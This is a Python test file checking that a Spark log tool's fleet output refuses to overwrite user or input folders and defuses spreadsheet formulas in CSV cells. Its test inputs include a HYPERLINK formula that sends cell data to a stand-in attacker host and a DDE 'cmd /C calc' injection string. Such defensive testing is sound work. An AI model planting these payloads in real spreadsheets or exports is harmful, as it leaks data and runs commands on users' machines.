"""`fleet --output` never destroys what the user did not ask to replace, and the CSV table
holds no cell a spreadsheet would run: a folder of the user's own files, the current folder,
a folder above it and any input are refused before anything is written; a table an earlier run
wrote (its marker file) or an empty folder is replaced; an app name or description that a
spreadsheet reads as a formula starts with `'` in CSV, and is kept as it is in Parquet."""

from __future__ import annotations

import csv
import glob
import json
import os
import subprocess

import pytest

from aqe_inspect.errors import InspectError
from aqe_inspect.fleet.job import MARKER, refuse_local_output, run_fleet
from aqe_inspect.fleet.table import csv_cell

from .conftest import AQE_INSPECT
from .hostile import hostile_log, sample
from .test_fleet import spark_env

# ---- refused before Spark starts ------------------------------------------------------------


@pytest.fixture
def layout(tmp_path, monkeypatch):
    """work/ (the current folder) holding logs/app-1 and mine/notes.txt."""
    work = tmp_path / "work"
    (work / "logs").mkdir(parents=True)
    (work / "logs" / "app-1").write_text("{}\n")
    (work / "mine").mkdir()
    (work / "mine" / "notes.txt").write_text("keep me\n")
    monkeypatch.chdir(work)
    return work


@pytest.mark.parametrize("output, why", [
    (".", "current folder"), ("..", "current folder"), ("/", "current folder"),
    ("logs", "overlaps the input logs"), ("logs/app-1", "overlaps the input logs"),
    ("logs/table", "overlaps the input logs"),
])
def test_outputs_that_would_lose_the_users_files_are_refused(layout, output, why):
    with pytest.raises(InspectError, match=why):
        refuse_local_output(output, ["logs"])
    assert (layout / "logs" / "app-1").read_text() == "{}\n"


def test_an_input_named_by_a_glob_or_through_a_link_is_refused(layout):
    os.symlink(layout / "logs", layout / "link")
    with pytest.raises(InspectError, match="overlaps the input"):
        refuse_local_output("link", ["logs/*"])
    with pytest.raises(InspectError, match="overlaps the input"):
        refuse_local_output(str(layout / "logs"), ["link"])


def test_a_folder_of_its_own_beside_the_inputs_is_taken(layout):
    refuse_local_output("table", ["logs"])
    refuse_local_output("mine", ["logs"])  # not refused here: the marker check decides later


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote():
    for text in ("=HYPERLINK(\"http://x\",\"y\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1",
                 "\r=1", "\uff1d1"):
        assert csv_cell(text) == "'" + text
    for value in ("aqe-sample:skew_join", "/logs/app-1", "", None, 3, -4, True, "{}", "[]"):
        assert csv_cell(value) == value


# ---- with Spark ---------------------------------------------------------------------------------

@pytest.mark.spark
def test_a_folder_of_the_users_files_is_kept_and_a_fleet_table_replaced(spark, tmp_path):
    _, session = spark
    (tmp_path / "logs").mkdir()
    log = hostile_log(tmp_path / "logs" / "app-1", description="aqe-sample:kept")
    mine = tmp_path / "mydata"
    mine.mkdir()
    (mine / "results.csv").write_text("precious\n")
    with pytest.raises(InspectError, match=f"not a fleet table .*no {MARKER} file"):
        run_fleet([str(log)], str(mine), "csv", session=session, progress=False)
    assert sorted(os.listdir(mine)) == ["results.csv"]
    assert sorted(os.listdir(tmp_path)) == ["logs", "mydata"]  # nothing left beside it

    empty = tmp_path / "empty"
    empty.mkdir()
    rows = run_fleet([str(log)], str(empty), "csv", session=session, progress=False)
    assert rows and json.loads((empty / MARKER).read_text())["format"] == "csv"
    again = run_fleet([str(log)], str(empty), "parquet", session=session, progress=False)
    assert again == rows and json.loads((empty / MARKER).read_text())["format"] == "parquet"
    assert glob.glob(str(empty / "part-*.parquet")) and not glob.glob(str(empty / "*.csv"))


@pytest.mark.spark
def test_formula_text_is_defused_in_csv_and_kept_in_parquet(spark, tmp_path):
    _, session = spark
    description = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    app_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    (tmp_path / "logs").mkdir()
    log = hostile_log(tmp_path / "logs" / "app-1", app_name=app_name, description=description)
    rows = run_fleet([str(log)], str(tmp_path / "csv"), "csv", session=session, progress=False)
    (found,) = [row for row in rows if row["description"] == description]
    assert found["app_name"] == app_name  # the rows, and the summary, hold the text itself
    (part,) = glob.glob(str(tmp_path / "csv" / "part-*.csv"))
    with open(part, newline="", encoding="utf-8") as handle:
        written = list(csv.DictReader(handle))
    cells = [cell for row in written for cell in row.values() if cell]
    assert "'" + description in cells and "'" + app_name in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), cells
    run_fleet([str(log)], str(tmp_path / "parquet"), "parquet", session=session, progress=False)
    read = session.read.parquet(str(tmp_path / "parquet")).collect()
    assert {(row["app_name"], row["description"]) for row in read} >= {(app_name, description)}


@pytest.mark.spark
def test_the_command_refuses_a_folder_of_the_users_files_in_one_line(tmp_path):
    entry = sample("skew_join", "4.3.0")
    logs = tmp_path / "logs"
    logs.mkdir()
    hostile_log(logs / "app-1", spark_version="4.3.0", description=entry["description"])
    mine = tmp_path / "mydata"
    mine.mkdir()
    (mine / "results.csv").write_text("precious\n")
    for output, message in (("mydata", "not a fleet table"), (".", "current folder"),
                            ("logs", "overlaps the input")):
        result = subprocess.run([*AQE_INSPECT, "fleet", "logs", "--output", output,
                                 "--master", "local[1]"], cwd=tmp_path,
                                env=spark_env(tmp_path), capture_output=True, text=True,
                                timeout=600)
        assert result.returncode == 2, result.stderr[-3000:]
        errors = [line for line in result.stderr.splitlines() if "aqe-inspect: error:" in line]
        assert len(errors) == 1 and message in errors[0], result.stderr[-3000:]
        assert "Traceback" not in result.stderr
    assert sorted(set(os.listdir(tmp_path)) - {"cache"}) == ["logs", "mydata"]
    assert (mine / "results.csv").read_text() == "precious\n"
    assert os.listdir(logs) == ["app-1"]
